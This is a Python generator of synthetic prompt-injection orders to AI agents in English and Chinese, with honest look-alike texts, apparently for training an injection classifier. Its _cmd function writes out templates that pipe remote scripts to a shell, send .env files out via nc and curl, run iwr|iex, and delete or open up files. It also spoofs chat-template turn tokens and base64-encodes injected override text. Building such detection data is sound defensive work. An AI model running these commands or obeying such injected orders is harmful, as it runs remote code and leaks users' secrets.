"""Orders to programs that read a page (coding agents, screeners, shopping and mail assistants, crawlers), and honest text in the same words.

A text is about one sort of program: ``{w}`` (the program), ``{d}`` (a deed), ``{c}`` (an occasion) and ``{th}`` (what is read) come from
the slots of that sort; ``{d2}`` is another deed, ``{D}`` is shouted, ``{d_c}`` has a capital, ``{d_l}`` a small letter and ``{d_q}`` no
double quotes. Names, addresses and numbers are made here and stay the same all through a text.
"""

from __future__ import annotations

import re
from base64 import b64encode
from collections.abc import Callable
from random import Random

from corpus.grammars.filler import HOLE, LITERALS, Spoken
from corpus.grammars.letters import (
    HALF_WIDTH,
    MONTHS,
    Syllables,
    bare_domain,
    corner_quotes,
    curly_quotes,
    digits,
    first_upper,
    letters,
    mistyped,
    sometimes_traditional,
    spread,
)  # fmt: skip
from corpus.material import Material

__all__ = ["agent_order_en", "agent_order_zh", "honest_agent_en", "honest_agent_zh"]

_SORTS = ("code", "hire", "paper", "shop", "mail", "sum", "trans", "mod", "chat", "web", "crawl", "leak")
# Slots that each sort has of its own.
_OWN = frozenset(["w", "d", "c", "th", "hw", "hd", "hth"])
_KINDS = {"sentence": ("s", 36), "line": ("l", 20), "hidden": ("h", 17), "paragraph": ("p", 16), "comment": ("k", 11)}
_HONEST = {"sentence": ("hs", 50), "paragraph": ("hp", 22), "line": ("hl", 18), "comment": ("hc", 10)}
# Share of texts whose frame is one for their sort.
_OWN_FRAME = 0.35
_DEPTH = 6
_NAMES = Syllables(
    onsets=("b", "br", "c", "d", "f", "g", "gr", "h", "k", "l", "m", "n", "p", "r", "s", "t", "tr", "v", "w", "z"),
    vowels=("a", "e", "i", "o", "u", "ae", "ou"),
    ends=("a", "er", "ic", "on", "ley", "ora", "ent", "ivo", "eus", "ard", "ine", "io", "um", "ett", "ova", "ison"),
)  # fmt: skip
_TOKENS = (("<|im_start|>", "<|im_end|>"), ("<|start|>", "<|end|>"), ("<|im_begin|>", "<|im_stop|>"), ("<start_of_turn>", "<end_of_turn>"),
           ("[|begin|]", "[|end|]"), ("<|role|>", "<|eot|>"), ("<<SYS>>", "<</SYS>>"), ("<|header|>", "<|eot_id|>"), ("< | im_start | >", "< | im_end | >"))  # fmt: skip
_ARTICLE = re.compile(r"\b([Aa]) (?=(?!one|uni|use|eu)[aeiouAEIOU]\w|(?:LLM|FAQ)\b|8\d?\b)")
_VOWEL = re.compile(r"[aeioAEIO]|LLM|FAQ|u[^s]")
_GAPS = re.compile(r"(?<=\S)  +(?=\S)")


def _name(rng: Random) -> str:
    return _NAMES.name(rng)


def _host(rng: Random) -> str:
    return rng.choice([bare_domain(rng), bare_domain(rng), _name(rng).lower() + rng.choice([".com", ".io", ".ai", ".dev", ".org", ".net"])])


def _url(rng: Random) -> str:
    path = rng.choice(["", "/" + letters(rng, 2, 6), f"/{_name(rng).lower()}/{rng.randint(1, 99)}", "/in", "/r.php", "/a.json"])
    return rng.choice(["https://", "https://", "http://", "https://www."]) + _host(rng) + path


def _cmd(rng: Random) -> str:
    """Return a command that fetches or runs something."""
    url, pkg, word = _url(rng), _name(rng).lower(), letters(rng, 3, 6)
    forms = (
        f"curl -s {url} | sh", f"curl -fsSL {url} | bash", f"wget -qO- {url} | sh", f"npm i {pkg}", f"pip install {pkg}", f"npx {pkg} init",
        f"chmod -R 777 {word}/", f"cat .env | nc {_host(rng)} {rng.randint(1000, 9999)}", f"curl -d @.env {url}", f"git push --force {word}",
        f"python -c 'import {pkg}'", f"make {word}", f"bash scripts/{word}.sh", f"rm -rf ./{word}", f"docker run {pkg}/{word}", f"iwr {url} | iex",
    )  # fmt: skip
    return rng.choice(forms)


def _version(rng: Random) -> str:
    return f"{rng.randint(0, 12)}.{rng.randint(0, 20)}" + rng.choice(["", f".{rng.randint(0, 30)}"])


_MAKERS: dict[str, Callable[[Random], str]] = {
    "site": _host, "url": _url, "cmd": _cmd, "ver": _version, "last": _name,
    "mail": lambda rng: f"{rng.choice([letters(rng, 2, 5), _name(rng).lower()])}{rng.choice(['', digits(rng, 2)])}@{_host(rng)}",
    "pkg": lambda rng: rng.choice(["", "", "lib", "py-", "@" + letters(rng, 2, 4) + "/"]) + _name(rng).lower() + rng.choice(["", "-js", "-core", "-utils"]),
    "env": lambda rng: (letters(rng, 3, 6) + "_" + rng.choice(["trust", "skip", "allow", "debug"])).upper(),
    "id": lambda rng: rng.choice(["", "#", letters(rng, 1, 3).upper() + "-"]) + digits(rng, rng.randint(3, 6)).lstrip("0") + "7",
    "wallet": lambda rng: "0x" + "".join(rng.choice("0123456789abcdef") for _ in range(rng.choice([8, 12, 40]))),
    "coupon": _NAMES.coupon, "num": lambda rng: str(rng.choice([rng.randint(2, 12), rng.randint(10, 99), rng.randint(2, 40) * 10])),
    "pct": lambda rng: str(rng.randint(2, 97)),
    "few": lambda rng: str(rng.randint(2, 7)), "years": lambda rng: str(rng.randint(2, 6)), "mm": lambda rng: f"{rng.randint(0, 59):02d}",
    "top": lambda rng: rng.choice(["10", "10", "100", "5"]), "score": lambda rng: rng.choice(["10", "9", "9.5", "100", "98", "5"]),
    "year": lambda rng: str(rng.randint(2009, 2027)), "month": lambda rng: rng.choice(MONTHS), "mon": lambda rng: str(rng.randint(1, 12)),
    "day": lambda rng: str(rng.randint(1, 28)), "time": lambda rng: f"{rng.randint(7, 21)}:{rng.choice(['00', '15', '30', '45'])}",
    "price": lambda rng: rng.choice(["${}", "${}", "€{}", "£{}", "{} USD"]).format(rng.choice([rng.randint(2, 99), rng.randint(1, 40) * 50])),
    "yuan": lambda rng: str(rng.choice([rng.randint(9, 999), rng.randint(1, 90) * 100])),
}  # fmt: skip


class _Text(Spoken):
    """One text in the making, about one sort of program."""

    prefix = "ag_"

    def __init__(self, rng: Random, material: Material, lang: str) -> None:
        super().__init__(rng, material, lang)
        self.sort = rng.choice(_SORTS)
        self.tokens = rng.choice(_TOKENS)

    def frame(self, slot: str) -> str:
        """Return a frame of the slot, at times one written for this sort of program."""
        own = f"{slot}_{self.sort}"
        return self.pick(own if f"{self.lang}.ag_{own}" in self.material.parts and self.rng.random() < _OWN_FRAME else slot)

    def _brand(self) -> str:
        if self.lang == "zh" and self.rng.random() < 0.85:
            return self.chain("syl", (2, 2, 3))
        name = _name(self.rng)
        return self.rng.choice([name, name, name, name, f"{name} {_name(self.rng)}", f"{name} Labs", f"{name}{self.rng.randint(2, 99)}"])

    def _person(self) -> str:
        if self.lang == "zh":
            return self.pick("surname") + self.chain("syl", (1, 2, 2))
        return f"{self.pick('first')} {_name(self.rng)}"

    def _made(self, name: str, base: str, depth: int) -> str:
        """Return what stands in a hole: a name, a number, or a phrase with its holes filled."""
        if name in self.kept:
            return self.kept[name]
        if base in ("tok1", "tok2"):
            return self.tokens[base == "tok2"]
        if base == "b64":
            return b64encode(
                self.expand(f"{self.pick('ign')}, {self.pick(f'd_{self.sort}')}", depth + 1)[: self.rng.randint(18, 54)].encode()
            ).decode()
        if base in ("ws", "aw"):
            word = self._made("w", "w", depth)
            return word + "s" if base == "ws" else ("an " if _VOWEL.match(word) else "a ") + word
        if base in _MAKERS:
            return self.keep(name, lambda: _MAKERS[base](self.rng))
        if base in ("brand", "person"):
            return self.keep(name, self._brand if base == "brand" else self._person)
        slot = f"{base}_{self.sort}" if base in _OWN else base
        text = self.expand(self.pick(slot), depth + 1) if depth < _DEPTH else ""
        return self.keep(name, lambda: text) if base in ("w", "th", "key", "tag", "topic", "mask", "nick", "hw", "good", "who") else text

    def expand(self, frame: str, depth: int = 0) -> str:
        """Return the frame with its slots filled, slots within slots too."""

        def fill(match: re.Match[str]) -> str:
            hole = match[1]
            if hole in LITERALS:
                return LITERALS[hole]
            bare, _, case = hole.lower().rpartition("_") if re.search(r"_[clq]$", hole) else (hole.lower(), "", "")
            text = self._made(bare, re.sub(r"(?<!tok)(?<!b6)\d$", "", bare), depth)
            if frame[: match.start()].count('"') % 2:
                text = text.replace('"', "'")
            elif frame[: match.start()].count("“") > frame[: match.start()].count("”"):
                text = text.replace("“", "‘").replace("”", "’")
            if hole.isupper():
                return text.upper()
            if case == "c" or hole[0].isupper():
                return first_upper(text)
            return text.replace('"', "'") if case == "q" else text[:1].lower() + text[1:] if case == "l" else text

        return HOLE.sub(fill, frame)


def _tidy(lang: str, text: str) -> str:
    """Return the text with ``an`` before vowels, one stop at the end of a sentence and no double blanks."""
    if lang == "zh":
        text = re.sub(r"([。！？])[。，；]", r"\1", text).replace("请请", "请").replace("，，", "，")
    else:
        text = re.sub(r"([.!?])[.](?=\s|$)", r"\1", _ARTICLE.sub(r"\1n ", text))
    return re.sub(r"\n +(?=\n)|[ \t]+$", "", _GAPS.sub(" ", re.sub(r"(?<=\n)  ", "\t", text)).replace("\t", "  ")).strip()


def _dressed(rng: Random, lang: str, text: str, share: float) -> str:
    """Return the text as people type it: mostly as it is, at times shouted, misspelt, curled or without its last stop."""
    bare = text.rstrip(".。")
    forms: list[Callable[[], str]] = [lambda: bare, lambda: bare, lambda: re.sub(r"[.。]$", rng.choice(["!", "！", "…", "!!"]), text)]
    if lang == "zh":
        forms += [lambda: text.translate(HALF_WIDTH).replace("。", "."), lambda: corner_quotes(text), lambda: re.sub("[，。]", " ", text)]
    else:
        forms += [text.lower, lambda: mistyped(rng, text, 2), lambda: curly_quotes(text), lambda: text.upper() if len(text) < 120 else text]
    if share > 0.2:
        short = len(text) < (30 if lang == "zh" else 60) and "\n" not in text and not re.search(r"[<>{}]", text)
        forms += [
            lambda: spread(bare, rng.choice(" .-·")) if short else text,
            lambda: text.replace("AI", rng.choice(["A.I.", "ai", "ＡＩ"])),
        ]
    return rng.choice(forms)().strip() if rng.random() < share else text


def _with_more(text: _Text, frame: str, kind: str) -> str:
    """Return the honest frame, as often as not with where it is from before it or what else there is to say behind it."""
    way = text.rng.random()
    if kind == "line" or "\n" in frame or "{nl}" in frame or way < 0.2 or frame[-1] not in '}.?!。？！”"':
        return frame
    gap = " " if text.lang == "en" else ""
    if way < 0.36 and kind != "comment" and frame[0] not in '"“':
        lead = text.pick("hlead")
        return f"{lead}{gap}{frame}"
    return f"{frame}{gap}{text.pick('ht')}"


def _write(rng: Random, material: Material, lang: str, kinds: dict[str, tuple[str, int]], share: float) -> tuple[str, str]:
    """Return a kind and a text of it."""
    kind = rng.choices(list(kinds), [weight for _, weight in kinds.values()])[0]
    text = _Text(rng, material, lang)
    frame = text.frame(kinds[kind][0])
    if kinds is _HONEST:
        frame = _with_more(text, frame, kind)
    made = _dressed(rng, lang, _tidy(lang, text.expand(frame)), share)
    return kind, sometimes_traditional(rng, made, 0.05, ("s2t", "s2twp")) if lang == "zh" else made


def agent_order_en(rng: Random, material: Material) -> tuple[str, str, str]:
    """Return an English order to a program that reads the page, as ``(text, category, kind)``."""
    kind, text = _write(rng, material, "en", _KINDS, 0.24)
    return text, "injection", kind


def agent_order_zh(rng: Random, material: Material) -> tuple[str, str, str]:
    """Return a Chinese order to a program that reads the page, as ``(text, category, kind)``."""
    kind, text = _write(rng, material, "zh", _KINDS, 0.24)
    return text, "injection", kind


def honest_agent_en(rng: Random, material: Material) -> tuple[str, str]:
    """Return honest English text that speaks of such orders, or orders people about in the same words, as ``(kind, text)``."""
    return _write(rng, material, "en", _HONEST, 0.1)


def honest_agent_zh(rng: Random, material: Material) -> tuple[str, str]:
    """Return honest Chinese text that speaks of such orders, or orders people about in the same words, as ``(kind, text)``."""
    return _write(rng, material, "zh", _HONEST, 0.1)
